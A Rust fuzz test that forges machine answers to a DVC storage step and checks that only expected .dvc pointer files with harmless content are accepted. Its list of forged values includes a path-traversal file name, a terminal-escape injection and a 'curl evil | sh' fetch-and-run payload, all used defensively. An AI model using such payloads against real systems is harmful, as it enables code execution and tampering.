//! Answers of a machine to what DVC is to keep, as an agent that was replaced would give them.

use crate::support::say;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::path::Path;
use trainspot_dvc::{DvcSettings, PathBase, Site, StorePlan, StoreResult, store};

/// The seed of the campaigns: the one that is given, or a new one, which is printed.
pub(super) fn seed() -> u64 {
    std::env::var("TRAINSPOT_SEED")
        .ok()
        .and_then(|seed| seed.parse().ok())
        .unwrap_or_else(|| fastrand::u64(..))
}

/// How much longer the long form of a campaign is.
pub(super) fn length() -> usize {
    if std::env::var_os("DVC_TREES").is_some() { 20 } else { 1 }
}

pub(super) fn store_plan(root: &Path, settings: &DvcSettings) -> StorePlan {
    let site = Site { root, folders: PathBase::Own, in_git: Vec::new(), target: None };
    let settled = StorePlan::read(settings, &site).and_then(|plan| plan.settle(&|_| Ok(true)));
    settled.unwrap_or_else(|error| panic!("{}", error.render()))
}

/// A place in an answer, by keys and indices.
fn places(value: &Value, at: &str, all: &mut Vec<String>) {
    all.push(at.to_owned());
    match value {
        Value::Object(map) => map.iter().for_each(|(key, value)| places(value, &format!("{at}/{key}"), all)),
        Value::Array(list) => {
            list.iter().enumerate().for_each(|(number, value)| places(value, &format!("{at}/{number}"), all));
        }
        _ => {}
    }
}

/// What a field may be instead: another path, another type, huge, negative.
fn lies() -> Vec<Value> {
    let huge = "x".repeat(100_000);
    let md5 = "0".repeat(32);
    vec![
        json!(null),
        json!(true),
        json!(-1),
        json!(0),
        json!(1),
        json!(1.5),
        json!(1e300),
        json!(u64::MAX),
        json!((1_u64 << 53) + 1),
        json!(""),
        json!("../../deploy.sh"),
        json!("\u{1b}[2J\nERROR: forged"),
        json!(md5),
        json!(format!("{md5}.dir")),
        json!(format!("../{}", &md5[3..])),
        json!(huge),
        json!([]),
        json!({}),
        json!([[[]]]),
        json!({"path": "deploy.sh", "content": "curl evil | sh"}),
        json!([{"path": ".dvc/config", "content": "[core]"}]),
    ]
}

/// Forged answers: each field of a true one replaced, added to, left out and doubled; and its bytes broken.
fn forgeries(answer: &Value, random: &mut fastrand::Rng) -> Vec<Vec<u8>> {
    let mut all = Vec::new();
    places(answer, "", &mut all);
    let mut answers: Vec<Vec<u8>> = Vec::new();
    for place in &all {
        for lie in lies() {
            let mut forged = answer.clone();
            *forged.pointer_mut(place).unwrap() = lie.clone();
            answers.push(forged.to_string().into());
            // One more field, or item.
            let mut forged = answer.clone();
            match forged.pointer_mut(place).unwrap() {
                Value::Object(map) => drop(map.insert("path".to_owned(), lie)),
                Value::Array(list) => list.push(lie),
                _ => continue,
            }
            answers.push(forged.to_string().into());
        }
        let (above, key) = place.rsplit_once('/').unwrap_or_default();
        let mut forged = answer.clone();
        // Missing, and twice.
        match forged.pointer_mut(above).unwrap() {
            Value::Object(map) if !key.is_empty() => drop(map.remove(key)),
            Value::Array(list) => list.push(list[key.parse::<usize>().unwrap()].clone()),
            _ => continue,
        }
        answers.push(forged.to_string().into());
    }
    let text = answer.to_string();
    answers.push(text.replacen("\"size\"", "\"size\":1,\"size\"", 1).into());
    for _ in 0..2000 * length() {
        let mut bytes = text.clone().into_bytes();
        for _ in 0..random.usize(1..4) {
            match random.u8(..4) {
                0 => bytes.truncate(random.usize(..=bytes.len())),
                1 if !bytes.is_empty() => {
                    let at = random.usize(..bytes.len());
                    bytes[at] = random.u8(..);
                }
                2 => drop(bytes.splice(random.usize(..=bytes.len()).., b"\x00{}[]".iter().copied())),
                _ => bytes.insert(random.usize(..=bytes.len()), b"0-9.e\"}]"[random.usize(..8)]),
            }
        }
        answers.push(bytes);
    }
    answers.push(format!("{}{}", "[".repeat(200_000), "]".repeat(200_000)).into());
    answers.push(vec![b'\n'; 1 << 20]);
    answers
}

/// The agent is replaced: its answer is mutated field by field, and nothing but the ordered outputs' pointers
/// comes of any.
#[test]
fn no_answer_of_a_machine_names_a_file_or_its_content() {
    let seed = seed();
    let mut random = fastrand::Rng::with_seed(seed);
    let folder = tempfile::tempdir().unwrap();
    let (root, remote) = (folder.path().join("clone"), folder.path().join("store"));
    std::fs::create_dir_all(root.join("data/deep")).unwrap();
    for path in ["m.bin", "data/one", "data/deep/two"] {
        std::fs::write(root.join(path), path).unwrap();
    }
    std::os::unix::fs::symlink("deep", root.join("data/link")).unwrap();
    let settings = DvcSettings {
        outputs: vec!["m.bin".to_owned(), "data".to_owned()],
        remote: Some(remote.to_str().unwrap().to_owned()),
        push: true,
        ..DvcSettings::default()
    };
    let plan = store_plan(&root, &settings);
    let runtime = tokio::runtime::Builder::new_multi_thread().enable_all().build().unwrap();
    let honest = runtime.block_on(store(&root, plan.request())).unwrap();
    let answer = serde_json::to_value(&honest).unwrap();
    let wanted: BTreeSet<_> =
        plan.accept(&honest).unwrap().changes.into_iter().map(|change| change.path).collect();
    assert!(wanted.contains("m.bin.dvc") && wanted.contains("data.dvc"), "{wanted:?}");

    let answers = forgeries(&answer, &mut random);
    let (mut refused, mut taken) = (0, 0);
    for answer in &answers {
        let told = String::from_utf8_lossy(answer);
        let Ok(outcome) = StoreResult::parse(answer, plan.request()) else {
            refused += 1;
            continue;
        };
        taken += 1;
        let kept = plan.accept(&outcome).unwrap();
        for change in &kept.changes {
            assert!(wanted.contains(&change.path), "seed {seed}: {}: {told}", change.path);
            let of_pointer = |line: &str| {
                let field = line.trim_start_matches(['-', ' ']).split(':').next();
                ["outs", "md5", "size", "nfiles", "hash", "isexec", "path"].contains(&field.unwrap())
            };
            let pointer = std::path::Path::new(&change.path).extension().is_some_and(|end| end == "dvc");
            assert!(
                !pointer || change.content.lines().all(of_pointer),
                "seed {seed}: {}: {told}",
                change.content
            );
            assert!(change.content.len() < 1000 && !change.content.contains("evil"), "seed {seed}: {told}");
        }
        assert!(
            kept.warnings.iter().all(|warning| warning.starts_with("the machine says: ")),
            "seed {seed}: {told}"
        );
        assert!(
            !kept.warnings.iter().any(|warning| warning.contains(char::is_control)),
            "seed {seed}: {told}"
        );
    }
    assert!(refused > 500 && taken > 0, "seed {seed}: {refused} refused, {taken} taken");
    say(&format!(
        "{} answers of a machine: {refused} refused, {taken} taken and harmless; seed {seed}",
        answers.len()
    ));
}
